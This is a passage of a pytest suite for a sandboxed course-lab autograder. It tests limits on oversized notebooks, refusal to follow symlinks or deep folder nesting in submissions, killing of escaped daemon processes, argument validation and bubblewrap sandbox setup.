    released = tmp_path / "released.ipynb"
    released.write_text(json.dumps(_released_notebook()))
    mine = tmp_path / "mine.ipynb"
    cell = '{"cell_type": "code", "id": "c%07d", "metadata": {}, "outputs": [], "source": ""}'
    mine.write_text('{"cells": [' + ",".join(cell % i for i in range(200_000)) + "]}")
    t0 = time.perf_counter()
    prepared = notebooks.prepare_limited(str(mine), str(released), str(tmp_path / "out.ipynb"))
    assert time.perf_counter() - t0 < 30
    assert not prepared.runnable and "more than the 2000 graded" in prepared.problems[0]
    fine = tmp_path / "fine.ipynb"
    fine.write_text(json.dumps(_released_notebook()))
    prepared = notebooks.prepare_limited(str(fine), str(released), str(tmp_path / "out.ipynb"))
    assert prepared.runnable and prepared.problems == [] and prepared.required[1] == (1, True)
    assert json.loads((tmp_path / "out.ipynb").read_text())["cells"][1]["id"] == "cell1"


def test_a_submission_is_read_without_following_links_or_recursing(tmp_path):
    folder = tmp_path / "ann"
    (folder / "labs").mkdir(parents=True)
    (folder / "labs" / "ddp.py").write_text("x = 1\n")
    (folder / "labs" / "zero.py").symlink_to(ROOT / "solutions" / "zero.py")
    (folder / "notebooks").symlink_to("../bob/notebooks")
    (folder / "inside").symlink_to("labs/ddp.py")
    deep = folder / "deep"
    deep.mkdir()
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(DEEP):
        os.mkdir("d", dir_fd=fd)
        fd_next = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = fd_next
    os.close(fd)
    try:
        found = submission.scan(folder)
        assert list(found.files) == ["labs/ddp.py"]
        assert found.not_looked_at == [
            "deep/" + "d/" * (submission.MAX_DEPTH - 2) + "d/ (more than 32 folders deep)"
        ]
        notes = submission.link_notes(found.links, folder)
        assert any("`labs/zero.py` -> `/" in n and "outside" in n for n in notes)
        assert any("`notebooks` -> `../bob/notebooks`" in n and "outside" in n for n in notes)
        assert any("`inside` -> `labs/ddp.py`" in n and "inside your folder" in n for n in notes)
        assert submission.read_file(folder, "labs/ddp.py")[0] == b"x = 1\n"
        for rel in ("labs/zero.py", "notebooks/00.ipynb", "inside", "labs/none.py"):
            with pytest.raises(submission.Unreadable):
                submission.read_file(folder, rel)
    finally:
        _remove_deep(deep)


def test_reports_are_replaced_whole(tmp_path):
    target = tmp_path / "scores.csv"
    target.write_text("old\n")
    write_atomic(target, "new\n")
    assert target.read_text() == "new\n" and [p.name for p in tmp_path.iterdir()] == ["scores.csv"]


DAEMON_SCRIPT = """
import subprocess, sys, time
from labs.grade.processes import become_subreaper, descendants, kill_leftovers
assert become_subreaper()
# a child that starts a daemon in its own session and exits: the daemon is re-parented to us
subprocess.run([sys.executable, "-c", "import subprocess, sys; subprocess.Popen("
                "[sys.executable, '-c', 'import time; time.sleep(60)', '%s'], "
                "start_new_session=True)"])
time.sleep(0.5)
print(len(descendants()), kill_leftovers(), len(descendants()))
"""


def test_a_daemon_comes_back_to_the_grader_and_is_killed():
    proc = run_cli("-c", DAEMON_SCRIPT % TOKEN, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["1", "1", "0"], proc.stdout
    assert processes_with(TOKEN) == []


@pytest.mark.parametrize(
    "args, message",
    [
        (["{missing}", "--out", "{tmp}/r"], "is not a folder"),
        (["{tmp}", "--out", "{tmp}/r"], "must not contain each other"),
        (["{subs}", "--out", str(ROOT / "labs" / "r")], "inside the course repository's labs/"),
        (["{subs}", "--out", "{tmp}/r", "--labs", "nope"], "--labs: unknown ['nope']; choose from"),
        (["{subs}", "--out", "{tmp}/r", "--cell-timeout", "0"], "--cell-timeout must be > 0"),
        (["{subs}", "--out", "{tmp}/r", "--memory-limit", "0"], "memory_gib=0.0 must be > 0"),
        (
            ["{subs}", "--out", "{tmp}/r", "--jobs", "2", "--unsafe-no-sandbox"],
            "--jobs > 1 needs the sandbox",
        ),
    ],
)
def test_bad_arguments_exit_2_naming_the_problem(tmp_path, args, message):
    (tmp_path / "subs" / "ann").mkdir(parents=True)
    args = [a.format(missing=tmp_path / "nope", tmp=tmp_path, subs=tmp_path / "subs") for a in args]
    proc = run_cli("-m", "labs.grade", *args, timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert message in proc.stderr
    assert not (ROOT / "labs" / "r").exists()


def test_a_report_folder_of_its_own_may_be_inside_the_repository():
    """The README's `--out report/` from the repository root; not inside a folder of the course."""
    assert _inside_repository(ROOT / "report") is None
    assert _inside_repository(ROOT.parent / "elsewhere") is None
    assert "labs/" in _inside_repository(ROOT / "labs" / "r")
    assert "is the course repository itself" in _inside_repository(ROOT)


def test_without_bubblewrap_the_grader_refuses(tmp_path):
    (tmp_path / "subs" / "ann").mkdir(parents=True)
    proc = run_cli(
        "-m",
        "labs.grade",
        str(tmp_path / "subs"),
        "--out",
        str(tmp_path / "r"),
        env={"PATH": str(Path(sys.executable).parent)},  # no bwrap on it
        timeout=300,
    )
    assert proc.returncode == 2, proc.stderr
    assert "bubblewrap (bwrap) is not installed" in proc.stderr
    assert "--unsafe-no-sandbox" in proc.stderr and not (tmp_path / "r").exists()


@pytest.mark.slow
def test_without_a_sandbox_the_report_says_so_first(tmp_path):
    """--unsafe-no-sandbox: the summary's first line says nothing was isolated. (The one student
    is a folder named scores.csv, a grading error, so no submission code runs.)"""
    subs = tmp_path / "subs"
    (subs / "scores.csv").mkdir(parents=True)
    proc = run_cli(
        "-m",
        "labs.grade",
        str(subs),
        "--out",
        str(tmp_path / "r"),
        "--labs",
        "collectives",
        "--unsafe-no-sandbox",
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    summary = (tmp_path / "r" / "summary.md").read_text()
    assert summary.splitlines()[0] == NOT_ISOLATED
    assert "Nothing was isolated" in proc.stderr
    assert json.loads((tmp_path / "r" / "scores.json").read_text())["isolated"] is False


def test_a_virtual_environment_under_tmp_stays_visible_in_the_sandbox(tmp_path, monkeypatch):
    # bubblewrap mounts in order: a clone under /tmp has its .venv there, and the sandbox's
    # private /tmp must not cover it (bwrap: execvp /tmp/.../.venv/bin/python: no such file)
    venv = Path("/tmp/clone/.venv")
    monkeypatch.setattr(sandbox, "python_prefixes", lambda: [venv])
    box = sandbox.Sandbox(tmp_path, sandbox.Limits(), isolated=True, hide=[])
    argv = box.command(
        tmp_path / "item", ["true"], cwd="/tmp", results_fd=None, status_fd=3, info_fd=None
    )
    private_tmp = max(i for i, a in enumerate(argv) if a == "--tmpfs" and argv[i + 1] == "/tmp")
    venv_bind = argv.index(str(venv))
    assert argv[venv_bind - 1] == "--ro-bind" and private_tmp < venv_bind
